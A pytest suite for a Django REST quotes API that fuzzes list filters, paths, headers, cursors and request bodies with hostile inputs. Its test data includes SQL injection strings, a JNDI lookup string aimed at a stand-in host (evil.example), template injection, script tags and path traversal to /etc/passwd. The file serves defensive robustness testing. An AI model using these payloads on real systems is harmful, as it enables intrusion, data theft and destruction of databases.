"""Hostile requests: whatever is sent, the answer is no 5xx, and an error is a problem."""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from rest_framework.test import APIClient

from quotes.api.views import AffiliationViewSet, QuoteViewSet, SourceViewSet, SpeakerViewSet
from tests.factories import QuoteFactory

LISTS = {
    "quotes": QuoteViewSet,
    "speakers": SpeakerViewSet,
    "sources": SourceViewSet,
    "affiliations": AffiliationViewSet,
}
PAGE = ("ordering", "limit", "cursor", "format")


@pytest.fixture
def stranger(db: None) -> APIClient:
    """Return a client that gets a 500 where the application fails, in place of the exception."""
    QuoteFactory()
    return APIClient(raise_request_exception=False)


@pytest.fixture
def insider(staff: APIClient) -> APIClient:
    """Return such a client of somebody who may write."""
    QuoteFactory()
    staff.handler.raise_request_exception = staff.raise_request_exception = False
    return staff


def check(response: Any) -> None:
    """Fail unless the answer is one that was meant."""
    assert response.status_code < 500, response.content
    if response.status_code >= 400:
        assert response["Content-Type"] == "application/problem+json"
        assert response.json()["status"] == response.status_code


@pytest.mark.parametrize(
    "value",
    [
        # SQL
        pytest.param("' OR '1'='1", id="or"),
        pytest.param("'; DROP TABLE quotes_quote; --", id="drop"),
        pytest.param("1) UNION SELECT password FROM auth_user --", id="union"),
        pytest.param("%' ESCAPE '!", id="escape"),
        pytest.param("\\", id="backslash"),
        pytest.param("%_%", id="wildcards"),
        pytest.param("$$; SELECT pg_sleep(9)", id="sleep"),
        pytest.param("%s %(name)s {0} {x}", id="format"),
        # full text
        pytest.param('"', id="one quotation mark"),
        pytest.param('text: NEAR("a" "b", 5) ^x + {y}', id="fts5"),
        pytest.param("a & !b | (c:* <-> d)", id="tsquery"),
        pytest.param("AND OR NOT", id="only operators"),
        pytest.param("((((((((((((((((((((a", id="open"),
        pytest.param("-", id="minus"),
        pytest.param("*", id="star"),
        pytest.param(" ".join(f"w{n}" for n in range(500)), id="500 words"),
        pytest.param(" OR ".join(f"w{n}*" for n in range(500)), id="500 alternatives"),
        pytest.param("(" * 5000, id="deep"),
        # text
        pytest.param("a\x00b", id="nul"),
        pytest.param("\x00", id="only nul"),
        pytest.param("\u202e\u2066\ufeff\ufffe", id="directions and marks"),
        pytest.param("ﬁ＝ß" * 50, id="folds to more"),
        pytest.param("\u0344" * 300, id="decomposes"),
        pytest.param("x" * 100_000, id="long"),
        # numbers and dates
        pytest.param(str(2**63), id="2^63"),
        pytest.param(str(-(2**63) - 1), id="-2^63-1"),
        pytest.param("9" * 5000, id="5000 digits"),
        pytest.param("1e309", id="1e309"),
        pytest.param("nan", id="nan"),
        pytest.param("-0", id="minus zero"),
        pytest.param("0x10", id="hexadecimal"),
        pytest.param("١٢", id="Arabic digits"),
        pytest.param("0000-00-00", id="no day"),
        pytest.param("9999-12-31", id="last day"),
        pytest.param("0001-01-01", id="first day"),
        # other languages' notions
        pytest.param("${jndi:ldap://evil.example/a}", id="jndi"),
        pytest.param("{{7*7}}{% debug %}", id="template"),
        pytest.param("<script>alert(1)</script>", id="script"),
        pytest.param("../../etc/passwd", id="path"),
        pytest.param('{"$gt": ""}', id="object"),
    ],
)
@pytest.mark.parametrize("resource", LISTS)
def test_no_value_of_a_parameter_breaks_a_list(resource: str, value: str, stranger: APIClient) -> None:
    for name in (*LISTS[resource].filterset_class.base_filters, *PAGE):
        check(stranger.get(f"/api/v1/{resource}/?{name}={quote(value)}"))


@pytest.mark.parametrize("resource", LISTS)
@pytest.mark.parametrize(
    "query",
    [
        pytest.param("{name}=%ff%fe", id="bad UTF-8"),
        pytest.param("{name}=%ED%A0%80", id="surrogate"),
        pytest.param("{name}=%C0%80", id="overlong nul"),
        pytest.param("{name}=%", id="cut escape"),
        pytest.param("{name}", id="no value"),
        pytest.param("{name}[]=1&{name}[$ne]=2", id="brackets"),
        pytest.param("{name}=1;{name}=2", id="semicolon"),
        pytest.param("&".join(["{name}=1"] * 900), id="900 times"),
        pytest.param("&".join(["{name}=1"] * 1100), id="more than Django reads"),
    ],
)
def test_no_query_breaks_a_list(resource: str, query: str, stranger: APIClient) -> None:
    for name in (*LISTS[resource].filterset_class.base_filters, *PAGE):
        check(stranger.get(f"/api/v1/{resource}/?{query.format(name=name)}"))


@pytest.mark.parametrize(
    "search",
    [
        pytest.param("(" * 20 + " OR ".join(f"w{n}*" for n in range(390)) + ")" * 20, id="alternatives"),
        pytest.param(" ".join(f"-(a{n} b{n})" for n in range(190)), id="negations"),
        pytest.param(" OR ".join(f"speaker:w{n}" for n in range(20)), id="fields"),
    ],
)
def test_the_most_that_is_allowed_at_once_is_answered(search: str, stranger: APIClient) -> None:
    parts = ("role", "organization", "speaker_name", "publisher")
    values = [f"{sign}{name}=v{n}" for sign in ("", "not_") for name in parts for n in range(100)]
    response = stranger.get(f"/api/v1/quotes/?limit=200&q={quote(search)}&{'&'.join(values)}")
    assert response.status_code == 200, response.content


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("limit=201", id="too large a page"),
        pytest.param("page=100000", id="too deep a page"),
        pytest.param("offset=100000", id="too deep an offset"),
        pytest.param("q=" + "+".join(f"w{n}" for n in range(401)), id="too many words"),
        pytest.param("q=" + "+".join(f"org:w{n}" for n in range(21)), id="too many fields"),
        pytest.param("q=" + "(" * 21 + "a" + ")" * 21, id="too many parentheses"),
        pytest.param("q=" + "x" * 4001, id="too long a search"),
        pytest.param("&".join(f"role=r{n}" for n in range(101)), id="too many values"),
        pytest.param("&".join(f"not_role=r{n}" for n in range(101)), id="too many negated values"),
    ],
)
def test_too_much_is_a_fault_that_is_named(query: str, stranger: APIClient) -> None:
    response = stranger.get(f"/api/v1/quotes/?{query}")
    check(response)
    assert response.status_code == 400
    assert response.json()["errors"][0]["parameter"] == query.partition("=")[0]


def signed(text: str) -> str:
    """Return the text in the form of a cursor, with a signature that is none."""
    return f"{base64.urlsafe_b64encode(text.encode()).decode().rstrip('=')}~{'x' * 43}"


@pytest.mark.parametrize("resource", LISTS)
@pytest.mark.parametrize(
    "cursor",
    [
        "abc",
        "~",
        "a~b~c",
        "é~ü",
        "." * 100,
        "x" * 10_000,
        signed('["-published", "2024-01-01", 1, false]'),
        signed('["-published", "2024-01-01", 9223372036854775808, false]'),
        signed("[" * 5000),
        signed("null"),
    ],
)
def test_a_forged_cursor_is_refused(resource: str, cursor: str, stranger: APIClient) -> None:
    response = stranger.get(f"/api/v1/{resource}/?cursor={quote(cursor)}")
    check(response)
    assert response.status_code == 400
    assert response.json()["errors"][0]["parameter"] == "cursor"


@pytest.mark.parametrize("place", range(0, 60, 7))
def test_a_cursor_that_was_changed_is_refused(place: int, stranger: APIClient) -> None:
    QuoteFactory()
    address = stranger.get("/api/v1/quotes/?limit=1").json()["next"]
    head, cursor = address.split("cursor=")[0], address.split("cursor=")[1].split("&")[0]
    other = "A" if cursor[place] != "A" else "B"
    response = stranger.get(f"{head}cursor={cursor[:place]}{other}{cursor[place + 1 :]}")
    check(response)
    assert response.status_code == 400


@pytest.mark.parametrize(
    "limit", ["0", "-1", "201", "1000000000", str(2**63), "1e2", "1.5", "١٠", " 5", "+5"]
)
def test_a_page_has_a_sensible_size(limit: str, stranger: APIClient) -> None:
    response = stranger.get(f"/api/v1/quotes/?limit={quote(limit)}")
    check(response)
    assert response.status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "quotes/%00/",
        "quotes/' OR 1=1/",
        "quotes/%ff%fe/",
        "quotes/../../admin/",
        "quotes//",
        "quotes/" + "a" * 5000 + "/",
        "quotes/aaaaaaaaaaaaaaaa/%2e%2e/",
        "quotes.csv%00",
        "quotes.csv.csv",
        "quotes/1/",
        "speakers/🚢/",
        "\\..\\",
    ],
)
def test_no_path_breaks_it(path: str, stranger: APIClient) -> None:
    response = stranger.get(f"/api/v1/{path}")
    check(response)
    assert response.status_code == 404


@pytest.mark.parametrize(
    "headers",
    [
        {"Accept": "garbage"},
        {"Accept": "application/json;q=x;=;;"},
        {"Accept": "," * 5000},
        {"Accept": "text/csv;q=0.1, */*;q=nan"},
        {"Accept-Language": "'; --, xx-\x7f"},
        {"Authorization": "Basic"},
        {"Authorization": "Basic !!!"},
        {"Authorization": "Basic " + base64.b64encode(b"\xff\xfe:\x00").decode()},
        {"Authorization": "Basic " + base64.b64encode(b"a\x00b:c").decode()},
        {"Authorization": "Basic " + base64.b64encode(b"nocolon").decode()},
        {"Authorization": "Bearer x"},
        {"Authorization": "Token \xff"},
        {"Cookie": "sessionid=\x00'; csrftoken=1"},
        {"Cookie": f"sessionid={'x' * 5000}"},
        {"If-None-Match": '"' * 1001},
        {"If-None-Match": "W/*, *"},
        {"If-Match": "x"},
        {"If-Modified-Since": "yesterday"},
        {"If-Modified-Since": "Mon, 99 Foo 99999 99:99:99 GMT"},
        {"Range": "bytes=9-1,-"},
        {"X-Forwarded-Host": "evil.example"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"Origin": "null"},
    ],
    ids=lambda headers: f"{next(iter(headers.items()))}"[:50],
)
@pytest.mark.parametrize("path", ["", "quotes/", "quotes.csv", "nothing/"])
def test_no_header_breaks_it(path: str, headers: dict[str, str], stranger: APIClient) -> None:
    check(stranger.get(f"/api/v1/{path}", headers=headers))


BODIES = [
    pytest.param(b"", id="nothing"),
    pytest.param(b"{", id="cut"),
    pytest.param(b"\xff\xfe{}", id="bad UTF-8"),
    pytest.param('{"name": "x"}'.encode("utf-16"), id="UTF-16"),
    pytest.param(b"[" * 100_000, id="deep"),
    pytest.param(b'{"a":' * 100_000, id="deep objects"),
    pytest.param(b"null", id="null"),
    pytest.param(b"[]", id="list"),
    pytest.param(b'"text"', id="text"),
    pytest.param(b"1e999", id="infinite"),
    pytest.param(b"NaN", id="nan"),
    pytest.param(b"9" * 5000, id="5000 digits"),
    pytest.param(b'{"__proto__": {}, "__class__": 1, "pk": 1, "id": 1}', id="names of others"),
]


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("resource", LISTS)
def test_no_body_breaks_it(resource: str, body: bytes, insider: APIClient) -> None:
    one = insider.get(f"/api/v1/{resource}/").json()["results"][0]["id"]
    for send, address in ((insider.post, ""), (insider.patch, f"{one}/")):
        response = send(f"/api/v1/{resource}/{address}", body, content_type="application/json")
        check(response)
        # Nothing to change is a change of nothing.
        assert response.status_code in ((200, 400, 405) if not body else (400, 405))


@pytest.mark.parametrize("body", BODIES)
def test_no_body_breaks_the_lookup(body: bytes, stranger: APIClient) -> None:
    response = stranger.post("/api/v1/lookup/", body, content_type="application/json")
    check(response)
    assert response.status_code == 400


@pytest.mark.parametrize(
    "text",
    [
        "a\x00b",
        "\ud800",
        "“" * 100_000,
        "”“" * 5000,
        "word " * 100_000,
        "“Yes,” he said. " * 3000,
        "“" + "the " * 20_000 + "”",
        "\u0344" * 50_000,
        "'; DROP TABLE quotes_quote; --",
    ],
    ids=lambda text: repr(text[:12]),
)
def test_no_text_breaks_the_lookup(text: str, stranger: APIClient) -> None:
    check(stranger.post("/api/v1/lookup/", json.dumps({"text": text}), content_type="application/json"))


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("a\x00b", id="nul"),
        pytest.param("\ud800", id="lone surrogate"),
        pytest.param("", id="empty"),
        pytest.param("x" * 1_000_000, id="long"),
        pytest.param("'; DROP TABLE quotes_quote; --", id="sql"),
        pytest.param(2**63, id="2^63"),
        pytest.param(-1.5e308, id="float"),
        pytest.param(float("nan"), id="nan"),
        pytest.param(True, id="true"),
        pytest.param(None, id="null"),
        pytest.param([], id="list"),
        pytest.param([["\x00"]], id="lists of lists"),
        pytest.param(["\ud800"], id="list with a lone surrogate"),
        pytest.param([None], id="list with null"),
        pytest.param({"a": {"b": "\x00"}}, id="object"),
        pytest.param("9999-99-99", id="no day"),
        pytest.param("0000-01-01", id="year 0"),
        pytest.param("http://[::1", id="no address"),
        pytest.param("javascript:alert(1)", id="javascript"),
    ],
)
@pytest.mark.parametrize("resource", LISTS)
def test_no_value_of_a_field_breaks_it(resource: str, value: Any, insider: APIClient) -> None:
    view = LISTS[resource]
    one = insider.get(f"/api/v1/{resource}/").json()["results"][0]["id"]
    for name in view.change_class().fields:
        body = json.dumps({name: value})
        check(insider.patch(f"/api/v1/{resource}/{one}/", body, content_type="application/json"))
        check(insider.post(f"/api/v1/{resource}/", body, content_type="application/json"))
        check(insider.get(f"/api/v1/{resource}/"))


def test_a_long_body_is_refused_before_it_is_read(insider: APIClient, settings: Any) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    insider.logout()
    insider.credentials(HTTP_AUTHORIZATION=f"Basic {base64.b64encode(b'editor:secret').decode()}")
    user = get_user_model().objects.get()
    user.set_password("secret")
    user.save()
    body = json.dumps({"name": "Ada Roe", "aliases": ["x" * 1000]})
    response = insider.post("/api/v1/speakers/", body, content_type="application/json")
    check(response)
    assert response.status_code == 413


@pytest.mark.parametrize("method", ["PUT", "TRACE", "PROPFIND", "CONNECT", "", "GET\x00", "get"])
def test_no_method_breaks_it(method: str, stranger: APIClient) -> None:
    for path in ("", "quotes/", "quotes.csv", "nothing/"):
        check(stranger.generic(method, f"/api/v1/{path}"))
